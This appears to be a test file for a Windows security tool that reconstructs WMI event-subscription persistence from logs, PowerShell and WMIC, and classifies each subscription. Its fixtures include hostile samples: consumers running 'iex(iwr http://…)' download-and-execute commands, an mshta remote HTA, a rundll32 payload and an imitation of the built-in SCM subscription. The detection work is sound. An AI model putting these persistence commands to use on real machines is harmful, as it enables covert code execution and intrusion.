import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { knownBenignFile } from '../../../main/detection/paths';
import { runDetectionOn } from '../../../main/detection/run';
import { reconstructSubscriptions } from '../../../main/subscriptions/reconstruct';
import { parsePowerShellSubscriptions, parseWmicSubscription } from '../../../main/subscriptions/script-parse';
import { loadKnownBenign } from '../../../main/subscriptions/verdict';
import type { NormalizedEvent } from '../../../shared/model/event';
import { mkEvent } from '../detection/sigma/events';
import { AUDIT_TEXT, parseAudit } from '../ingest/formats/wmi-audit-fixtures';
import { POSSIBLE_CAUSE_5861 } from './fixtures';

const KB = loadKnownBenign(knownBenignFile());
const WMI = 'Microsoft-Windows-WMI-Activity/Operational';
const PS = 'Microsoft-Windows-PowerShell/Operational';

const SCM_5861 = `Binding EventFilter: 
instance of __EventFilter
{
	CreatorSID = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0};
	EventNamespace = "root\\\\cimv2";
	Name = "SCM Event Log Filter";
	Query = "select * from MSFT_SCMEventLogEvent";
	QueryLanguage = "WQL";
};
Perm. Consumer: 
instance of NTEventLogEventConsumer
{
	Category = 0;
	CreatorSID = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0};
	EventType = 1;
	EventID = 0;
	Name = "SCM Event Log Consumer";
	NameOfUserSIDProperty = "sid";
	SourceName = "Service Control Manager";
};
`;

function ev5861(host: string, ess: string, consumer: string, cause: string, rec: number): NormalizedEvent {
  return mkEvent(WMI, 5861, { Namespace: '//./root/subscription', ESS: ess, CONSUMER: consumer, PossibleCause: cause }, { computer: host, recordId: rec, timeCreated: `2024-03-0${rec}T10:00:00.0000000Z` });
}

describe('reconstruction from WMI-Activity', () => {
  test('5861: MOF filter and consumer joined by the binding; SCM built-in is benign, the VBScript one malicious', () => {
    const subs = reconstructSubscriptions(
      [
        ev5861('WS01', 'SCM Event Log Filter', 'NTEventLogEventConsumer="SCM Event Log Consumer"', SCM_5861, 1),
        ev5861('WS01', 'Updater', 'ActiveScriptEventConsumer="Updater"', POSSIBLE_CAUSE_5861, 2),
      ],
      KB,
    );
    assert.equal(subs.length, 2);
    const scm = subs.find((s) => s.filter?.name === 'SCM Event Log Filter')!;
    assert.equal(scm.verdict, 'benign');
    assert.match(scm.reasons[0], /known benign: Built-in Windows subscription/);
    assert.equal(scm.consumer?.className, 'NTEventLogEventConsumer');
    assert.equal(scm.consumer?.payload.SourceName, 'Service Control Manager');
    const upd = subs.find((s) => s.filter?.name === 'Updater')!;
    assert.equal(upd.verdict, 'malicious');
    assert.equal(upd.filter?.queryLanguage, 'WQL');
    assert.equal(upd.filter?.eventNamespace, 'root\\cimv2');
    assert.equal(upd.filter?.namespace, '//./root/subscription');
    assert.equal(upd.consumer?.className, 'ActiveScriptEventConsumer');
    assert.equal(upd.consumer?.payload.ScriptingEngine, 'VBScript');
    assert.deepEqual(upd.binding, { filterRef: '__EventFilter.Name="Updater"', consumerRef: 'ActiveScriptEventConsumer.Name="Updater"' });
    assert.equal(upd.created, '2024-03-02T10:00:00.0000000Z');
    assert.equal(upd.evidence.length, 1);
    assert.equal(upd.evidence[0].recordId, 2);
    // The -enc payload inside the VBScript is decoded.
    assert.ok(upd.decoded.some((d) => d.text === 'IEX (New-Object Net.WebClient)'), JSON.stringify(upd.decoded));
    assert.ok(upd.tags.includes('attack.t1546.003'));
    assert.ok(upd.tags.includes('attack.t1059.005'));
    assert.ok(upd.tags.includes('attack.t1027'));
  });

  test('a well-known name with a different payload is an imitation, not benign', () => {
    const fake = SCM_5861.replace('instance of NTEventLogEventConsumer', 'instance of CommandLineEventConsumer').replace(
      'SourceName = "Service Control Manager";',
      'CommandLineTemplate = "cmd.exe /c C:\\\\Users\\\\Public\\\\a.exe";',
    );
    const [s] = reconstructSubscriptions([ev5861('WS09', 'SCM Event Log Filter', 'CommandLineEventConsumer="SCM Event Log Consumer"', fake, 3)], KB);
    assert.equal(s.verdict, 'malicious');
    assert.match(s.reasons[0], /imitates known-benign 'windows-scm-event-log'/);
  });

  test('the genuine SCM subscription beside an imitation bound to its filter: the imitation\'s detections are not labelled benign', () => {
    const fake = SCM_5861.replace('instance of NTEventLogEventConsumer', 'instance of CommandLineEventConsumer').replace(
      'SourceName = "Service Control Manager";',
      'CommandLineTemplate = "powershell.exe -nop -w hidden -c iex(iwr http://10.0.0.5/a)";',
    );
    const events = [
      ev5861('WKS01', 'SCM Event Log Filter', 'NTEventLogEventConsumer="SCM Event Log Consumer"', SCM_5861, 1),
      ev5861('WKS01', 'SCM Event Log Filter', 'CommandLineEventConsumer="SCM Event Log Consumer"', fake, 4),
    ];
    const r = runDetectionOn({ iterateEvents: () => events }, {});
    const genuine = r.subscriptions.find((s) => s.consumer?.className === 'NTEventLogEventConsumer')!;
    const imitation = r.subscriptions.find((s) => s.consumer?.className === 'CommandLineEventConsumer')!;
    assert.equal(genuine.verdict, 'benign');
    assert.equal(imitation.verdict, 'malicious');
    // The shared filter puts record 4 among the genuine subscription's evidence too.
    assert.ok(genuine.evidence.some((e) => e.recordId === 4), 'the case this test is about');
    const onImitation = r.detections.filter((d) => d.evidence.recordId === 4);
    assert.ok(onImitation.length > 0, 'the imitation raises detections');
    assert.ok(onImitation.every((d) => d.benign === undefined), JSON.stringify(onImitation.map((d) => [d.ruleTitle, d.benign])));
    // The genuine one alone: its registration is reported, labelled benign (not hidden).
    const alone = runDetectionOn({ iterateEvents: () => events.slice(0, 1) }, {});
    const registered = alone.detections.filter((d) => d.ruleTitle.startsWith('WMI Permanent Event Subscription Registered'));
    assert.equal(registered.length, 1);
    assert.match(registered[0].benign?.reason ?? '', /known benign: Built-in Windows subscription/);
  });

  test('5860: temporary subscription with user and process', () => {
    const e = mkEvent(WMI, 5860, {
      NamespaceName: '//./root/CIMV2',
      Query: 'SELECT * FROM Win32_ProcessStartTrace',
      User: 'CORP\\mallory',
      processid: '4242',
      MachineName: 'WS05',
      PossibleCause: 'Temporary',
    });
    const [s] = reconstructSubscriptions([e], KB);
    assert.equal(s.temporary, true);
    assert.equal(s.filter?.query, 'SELECT * FROM Win32_ProcessStartTrace');
    assert.equal(s.user, 'CORP\\mallory');
    assert.equal(s.clientMachine, 'WS05');
    assert.equal(s.verdict, 'suspicious');
    assert.ok(s.reasons.some((r) => /process starts/.test(r)));
  });
});

describe('known-benign subscriptions are labelled, never hidden', () => {
  const SYS = 'Microsoft-Windows-Sysmon/Operational';
  const bvt = [
    mkEvent(SYS, 19, { EventType: 'WmiFilterEvent', Operation: 'Created', User: 'NT AUTHORITY\\SYSTEM', EventNamespace: ' "root\\\\cimv2"', Name: ' "BVTFilter"', Query: ' "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA \\"Win32_Processor\\" AND TargetInstance.LoadPercentage > 99"' }, { recordId: 11 }),
    mkEvent(SYS, 20, { EventType: 'WmiConsumerEvent', Operation: 'Created', User: 'NT AUTHORITY\\SYSTEM', Name: ' "BVTConsumer"', Type: 'Command Line', Destination: ' "cscript KernCap.vbs"' }, { recordId: 12 }),
    mkEvent(SYS, 21, { EventType: 'WmiBindingEvent', Operation: 'Created', User: 'NT AUTHORITY\\SYSTEM', Consumer: ' "CommandLineEventConsumer.Name=\\"BVTConsumer\\""', Filter: ' "__EventFilter.Name=\\"BVTFilter\\""' }, { recordId: 13 }),
  ];
  test('BVTFilter/BVTConsumer: benign subscription, detections kept and labelled', () => {
    const r = runDetectionOn({ iterateEvents: () => bvt }, {});
    assert.equal(r.subscriptions.length, 1);
    const [s] = r.subscriptions;
    assert.equal(s.filter?.query, 'SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "Win32_Processor" AND TargetInstance.LoadPercentage > 99');
    assert.equal(s.verdict, 'benign');
    assert.match(s.reasons[0], /known benign: Microsoft build verification/);
    const dets = r.detections.filter((d) => d.ruleTitle.startsWith('WMI Subscription Object Created'));
    assert.equal(dets.length, 3, 'the detections are still reported');
    assert.ok(dets.every((d) => d.benign && /build verification/.test(d.benign.reason)));
  });
  test('Sysmon: objects named like the built-in SCM subscription but running a command are alerted, not labelled', () => {
    const imit = [
      mkEvent(SYS, 19, { EventType: 'WmiFilterEvent', Operation: 'Created', User: 'NT AUTHORITY\\SYSTEM', EventNamespace: ' "root\\\\cimv2"', Name: ' "SCM Event Log Filter"', Query: ' "select * from MSFT_SCMEventLogEvent"' }, { recordId: 21 }),
      mkEvent(SYS, 20, { EventType: 'WmiConsumerEvent', Operation: 'Created', User: 'NT AUTHORITY\\SYSTEM', Name: ' "SCM Event Log Consumer"', Type: 'Command Line', Destination: ' "powershell.exe -nop -w hidden -c iex(iwr http://10.0.0.5/a)"' }, { recordId: 22 }),
      mkEvent(SYS, 21, { EventType: 'WmiBindingEvent', Operation: 'Created', User: 'NT AUTHORITY\\SYSTEM', Consumer: ' "CommandLineEventConsumer.Name=\\"SCM Event Log Consumer\\""', Filter: ' "__EventFilter.Name=\\"SCM Event Log Filter\\""' }, { recordId: 23 }),
    ];
    const r = runDetectionOn({ iterateEvents: () => imit }, {});
    assert.equal(r.subscriptions[0].verdict, 'malicious');
    const dets = r.detections.filter((d) => d.ruleTitle.startsWith('WMI Subscription Object Created'));
    assert.deepEqual(dets.map((d) => d.evidence.recordId).sort(), [21, 22, 23], 'each object alerted (the rule skipped any named SCM Event Log)');
    assert.ok(r.detections.every((d) => !d.benign));
  });
  test('the same names with another payload are not benign', () => {
    const evil = bvt.map((e) => (e.eventId === 20 ? { ...e, data: { ...e.data, Destination: ' "powershell -w hidden -c iex(iwr http://198.51.100.2/a)"' } } : e));
    const r = runDetectionOn({ iterateEvents: () => evil }, {});
    assert.equal(r.subscriptions[0].verdict, 'malicious');
    assert.ok(r.detections.every((d) => !d.benign));
  });
});

describe('WMI-Activity 5858 links the client machine', () => {
  test('a failed remote write to a consumer names the client', () => {
    const subs = reconstructSubscriptions(
      [
        ev5861('WS01', 'Updater', 'ActiveScriptEventConsumer="Updater"', POSSIBLE_CAUSE_5861, 2),
        mkEvent(WMI, 5858, {
          Id: '{00000000-0000-0000-0000-000000000000}',
          ClientMachine: 'ATTACKER-PC',
          User: 'CORP\\mallory',
          ClientProcessId: '1234',
          Component: 'Unknown',
          Operation: 'Start IWbemServices::PutInstance - root\\subscription : ActiveScriptEventConsumer.Name="Updater"',
          ResultCode: '0x80041003',
          PossibleCause: 'Unknown',
        }, { computer: 'WS01', recordId: 9, timeCreated: '2024-03-02T09:59:00.0000000Z' }),
      ],
      KB,
    );
    assert.equal(subs.length, 1);
    assert.equal(subs[0].clientMachine, 'ATTACKER-PC');
    assert.ok(subs[0].evidence.some((e) => e.eventId === 5858 && e.recordId === 9));
  });
});

describe('reconstruction from PowerShell and WMIC', () => {
  const SCRIPT = `$FilterArgs = @{name='WindowsUpdateCheck';
    EventNameSpace='root\\CimV2';
    QueryLanguage="WQL";
    Query="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325"};
$Filter=New-CimInstance -Namespace root/subscription -ClassName __EventFilter -Property $FilterArgs

$ConsumerArgs = @{name='WindowsUpdateCheck';
    CommandLineTemplate="$($Env:SystemRoot)\\System32\\rundll32.exe C:\\ProgramData\\upd.dll,Start";}
$Consumer=New-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Property $ConsumerArgs

$FilterToConsumerArgs = @{
Filter = [Ref] $Filter;
Consumer = [Ref] $Consumer;
}
$FilterToConsumerBinding = New-CimInstance -Namespace root/subscription -ClassName __FilterToConsumerBinding -Property $FilterToConsumerArgs`;

  test('New-CimInstance with hashtable variables', () => {
    const objs = parsePowerShellSubscriptions(SCRIPT);
    assert.deepEqual(objs.map((o) => o.className), ['__EventFilter', 'CommandLineEventConsumer', '__FilterToConsumerBinding']);
    assert.equal(objs[0].props.Name, 'WindowsUpdateCheck');
    assert.equal(objs[0].props.EventNamespace, 'root\\CimV2');
    assert.match(objs[0].props.Query, /SystemUpTime < 325$/);
  });

  test('Set-WmiInstance and [wmiclass] forms', () => {
    const s1 = `$f = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='F2'; EventNamespace='root\\cimv2'; QueryLanguage='WQL'; Query="SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName='notepad.exe'"}
$c = Set-WmiInstance -Namespace root\\subscription -Class ActiveScriptEventConsumer -Arguments @{Name='C2'; ScriptingEngine='JScript'; ScriptText='new ActiveXObject("WScript.Shell").Run("calc")'}
Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$f; Consumer=$c}`;
    const o1 = parsePowerShellSubscriptions(s1);
    assert.equal(o1.length, 3);
    assert.deepEqual(o1[2].filterRef, { className: '__EventFilter', name: 'F2' });
    assert.deepEqual(o1[2].consumerRef, { className: 'ActiveScriptEventConsumer', name: 'C2' });
    const s2 = `$i = ([wmiclass]"\\\\.\\root\\subscription:CommandLineEventConsumer").CreateInstance()
$i.Name = 'C3'
$i.CommandLineTemplate = 'mshta.exe http://203.0.113.9/x.hta'
$i.Put()`;
    const [o2] = parsePowerShellSubscriptions(s2);
    assert.equal(o2.className, 'CommandLineEventConsumer');
    assert.equal(o2.props.CommandLineTemplate, 'mshta.exe http://203.0.113.9/x.hta');
  });

  test('4104 script block becomes a malicious subscription on its host', () => {
    const e = mkEvent(PS, 4104, { ScriptBlockText: SCRIPT, MessageNumber: '1', MessageTotal: '1' }, { computer: 'WS07', userSid: 'S-1-5-21-1-2-3-1001' });
    const [s] = reconstructSubscriptions([e], KB);
    assert.equal(s.host, 'WS07');
    assert.equal(s.filter?.name, 'WindowsUpdateCheck');
    assert.equal(s.consumer?.className, 'CommandLineEventConsumer');
    assert.match(s.consumer?.payload.CommandLineTemplate ?? '', /rundll32\.exe C:\\ProgramData\\upd\.dll,Start$/);
    assert.deepEqual(s.binding, { filterRef: '__EventFilter.Name="WindowsUpdateCheck"', consumerRef: 'CommandLineEventConsumer.Name="WindowsUpdateCheck"' });
    assert.equal(s.verdict, 'malicious');
    assert.equal(s.user, 'S-1-5-21-1-2-3-1001');
  });

  test('Register-WmiEvent is a temporary subscription; a mere alias is not', () => {
    const t = parsePowerShellSubscriptions(`Register-WmiEvent -Query "SELECT * FROM __InstanceCreationEvent WITHIN 2 WHERE TargetInstance ISA 'Win32_Process'" -SourceIdentifier Watch -Action { Start-Process cmd.exe }`);
    assert.equal(t.length, 1);
    assert.equal(t[0].className, 'TemporarySubscription');
    assert.equal(t[0].props.ScriptText, 'Start-Process cmd.exe');
    assert.deepEqual(parsePowerShellSubscriptions('Set-Alias -Name rcie -Value Register-CimIndicationEvent -Option ReadOnly, AllScope'), []);
  });

  test('WMIC create and delete', () => {
    const [c] = parseWmicSubscription(`"C:\\Windows\\System32\\wbem\\WMIC.exe" /namespace:"\\\\root\\subscription" PATH CommandLineEventConsumer CREATE Name="BotConsumer23", ExecutablePath="C:\\Windows\\System32\\cmd.exe",CommandLineTemplate="C:\\Windows\\System32\\cmd.exe"`);
    assert.equal(c.className, 'CommandLineEventConsumer');
    assert.equal(c.props.Name, 'BotConsumer23');
    assert.equal(c.props.CommandLineTemplate, 'C:\\Windows\\System32\\cmd.exe');
    const [d] = parseWmicSubscription(`"C:\\Windows\\System32\\wbem\\WMIC.exe" /namespace:"\\\\root\\subscription" PATH __FilterToConsumerBinding WHERE Filter='__EventFilter.Name="BotFilter82"' DELETE`);
    assert.equal(d.action, 'deleted');
    assert.deepEqual(d.filterRef, { className: '__EventFilter', name: 'BotFilter82' });
  });
});

describe('reconstruction from audit output', () => {
  test('Format-List audit of root\\subscription', async () => {
    const { events } = await parseAudit(AUDIT_TEXT);
    const subs = reconstructSubscriptions(events, KB);
    assert.equal(subs.length, 2);
    const scm = subs.find((s) => s.filter?.name === 'SCM Event Log Filter')!;
    // Filter alone (its consumer and binding were not in this audit): benign by the filter entry? No: the entry names a consumer too.
    assert.notEqual(scm.verdict, 'malicious');
    const upd = subs.find((s) => s.filter?.name === 'Updater')!;
    assert.equal(upd.host, 'WS01');
    assert.equal(upd.verdict, 'malicious');
    assert.match(upd.consumer?.payload.CommandLineTemplate ?? '', /DownloadString/);
    assert.equal(upd.lifecycle.length, 3);
    assert.ok(upd.lifecycle.every((l) => l.action === 'observed'));
  });
});
